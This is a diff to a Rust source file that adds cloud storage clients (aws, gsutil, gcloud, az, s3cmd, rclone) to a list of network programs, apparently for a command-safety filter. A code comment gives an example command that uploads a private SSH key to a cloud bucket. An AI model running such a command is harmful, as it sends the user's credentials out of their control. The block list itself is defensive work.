@@ -204,6 +204,14 @@ pub const NETWORK_PROGRAMS: &[&str] = &[
     "wget2",
     "websocat",
     "curlie",
+    // Cloud storage and API clients: an upload carries out what it is given
+    // (`aws s3 cp ~/.ssh/id_rsa s3://b/`).
+    "aws",
+    "gsutil",
+    "gcloud",
+    "az",
+    "s3cmd",
+    "rclone",
 ];
 /// Shells whose `-c` string is parsed again and which read a program from stdin.
 pub const SHELLS: &[&str] = &[
